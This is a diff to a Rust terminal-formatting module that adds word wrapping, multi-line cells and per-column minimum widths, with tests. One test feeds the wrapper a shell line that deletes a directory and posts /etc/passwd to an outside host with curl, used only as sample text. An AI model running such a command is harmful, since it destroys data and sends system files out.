@@ -9,8 +9,6 @@ use crate::screen::{BOLD, DIM, paint};
 const GAP: usize = 2;
 /// No text in a table is longer; hosts' texts are cut at half of it.
 const CELL_MAX_CHARS: usize = 1_000;
-/// A column is not made narrower than this to fit the terminal.
-const LEAST_WIDTH: usize = 20;
 
 #[derive(Debug, Clone)]
 pub struct Cell {
@@ -24,6 +22,12 @@ impl Cell {
         Self { text: plain(text.as_ref(), CELL_MAX_CHARS), style: Style::new() }
     }
 
+    /// A text that may have several lines, whole.
+    pub fn lines(text: &str) -> Self {
+        let lines: Vec<String> = text.lines().map(|line| plain(line, usize::MAX)).collect();
+        Self { text: lines.join("\n"), style: Style::new() }
+    }
+
     pub fn styled(self, style: Style) -> Self {
         Self { style, ..self }
     }
@@ -35,8 +39,22 @@ pub fn table(rows: &[Vec<Cell>]) -> Vec<String> {
 
 /// Names and what is to be said of each, a line for each.
 pub fn facts(facts: Vec<(&str, Cell)>) -> Vec<String> {
-    let row = |(name, fact)| vec![Cell::new(name).styled(DIM), fact];
-    table(&facts.into_iter().map(row).collect::<Vec<_>>())
+    facts_within(facts, None)
+}
+
+/// The same within a screen: what is wider goes on under itself.
+pub fn facts_within(facts: Vec<(&str, Cell)>, columns: Option<usize>) -> Vec<String> {
+    let names = facts.iter().map(|(name, _)| name.width()).max().unwrap_or(0);
+    let room = columns.map_or(usize::MAX, |columns| columns.saturating_sub(names + GAP).max(GAP));
+    let mut lines = Vec::new();
+    for (name, fact) in facts {
+        for (number, piece) in wrap(&fact.text, room).iter().enumerate() {
+            let name = if number == 0 { name } else { "" };
+            let gap = " ".repeat(names - name.width() + GAP);
+            lines.push(format!("{}{gap}{}", paint(DIM, name), paint(fact.style, piece)));
+        }
+    }
+    lines
 }
 
 pub fn headings<const N: usize>(names: [&str; N]) -> Vec<Cell> {
@@ -44,14 +62,18 @@ pub fn headings<const N: usize>(names: [&str; N]) -> Vec<Cell> {
 }
 
 /// The rows within a screen: if they are wider, the columns named by `yielding` are cut, the first
-/// one first.
-pub fn table_within(rows: &[Vec<Cell>], columns: Option<usize>, yielding: &[usize]) -> Vec<String> {
+/// one first, each down to its least width.
+pub fn table_within(
+    rows: &[Vec<Cell>],
+    columns: Option<usize>,
+    yielding: &[(usize, usize)],
+) -> Vec<String> {
     let mut widths = widths(rows);
-    for column in yielding {
+    for (column, least) in yielding {
         let all = widths.iter().sum::<usize>() + GAP * widths.len().saturating_sub(1);
         let over = all.saturating_sub(columns.unwrap_or(usize::MAX));
         if let Some(width) = widths.get_mut(*column) {
-            *width = width.saturating_sub(over).max(LEAST_WIDTH.min(*width));
+            *width = width.saturating_sub(over).max((*least).min(*width));
         }
     }
     rows.iter().map(|row| line(row, &widths)).collect()
@@ -98,6 +120,41 @@ pub fn fit(text: &str, columns: usize) -> String {
     fitted
 }
 
+/// The whole text on lines of at most so many columns, broken between words where that is possible.
+/// What would steer a terminal is taken out; line breaks of the text are kept.
+pub fn wrap(text: &str, columns: usize) -> Vec<String> {
+    let columns = columns.max(1);
+    let mut lines = Vec::new();
+    for line in text.lines() {
+        wrap_line(&plain(&line.replace('\t', "    "), usize::MAX), columns, &mut lines);
+    }
+    lines
+}
+
+fn wrap_line(line: &str, columns: usize, lines: &mut Vec<String>) {
+    let (mut now, mut width) = (String::new(), 0);
+    for word in line.split_inclusive(' ') {
+        if width > 0 && width + word.trim_end().width() > columns {
+            lines.push(std::mem::take(&mut now));
+            width = 0;
+        }
+        for c in word.chars() {
+            let wide = c.width().unwrap_or(0);
+            // A space at the end of a line is not seen.
+            if width + wide > columns {
+                if c == ' ' {
+                    continue;
+                }
+                lines.push(std::mem::take(&mut now));
+                width = 0;
+            }
+            now.push(c);
+            width += wide;
+        }
+    }
+    lines.push(now);
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -116,13 +173,26 @@ mod tests {
     fn columns_give_way_to_the_width_of_the_screen_one_after_the_other() {
         let long = "word ".repeat(20);
         let narrow = rows(&[["a", &long, "x"], ["b", "short", "y"]]);
-        let lines = table_within(&narrow, Some(50), &[1, 2]);
+        let lines = table_within(&narrow, Some(50), &[(1, 20), (2, 20)]);
         assert!(lines.iter().all(|line| line.width() <= 50), "{lines:?}");
         assert!(lines[0].contains('…') && lines[0].ends_with('x'), "{lines:?}");
         let narrower = rows(&[["a", &long, &long]]);
-        let lines = table_within(&narrower, Some(50), &[1, 2]);
+        let lines = table_within(&narrower, Some(50), &[(1, 20), (2, 20)]);
         assert_eq!((lines[0].width(), lines[0].matches('…').count()), (50, 2), "{lines:?}");
-        assert_eq!(table_within(&narrower, None, &[1, 2]), table(&narrower));
+        assert_eq!(table_within(&narrower, None, &[(1, 20), (2, 20)]), table(&narrower));
+    }
+
+    #[test]
+    fn p6_a_wrapped_text_is_whole_at_any_width() {
+        let text = "rm -rf /tmp/日本語/build && curl --data @/etc/passwd http://example.org";
+        for columns in [1, 2, 7, 20, 60, 200] {
+            let lines = wrap(text, columns);
+            assert!(lines.iter().all(|line| line.width() <= columns.max(2)), "{lines:?}");
+            let bare = |text: &str| text.replace(' ', "");
+            assert_eq!(bare(&lines.concat()), bare(text));
+        }
+        assert_eq!(wrap("one two three", 8), ["one two ", "three"]);
+        assert_eq!(wrap("a\n\nb\u{1b}[2J", 80), ["a", "", "b [2J"]);
     }
 
     #[test]
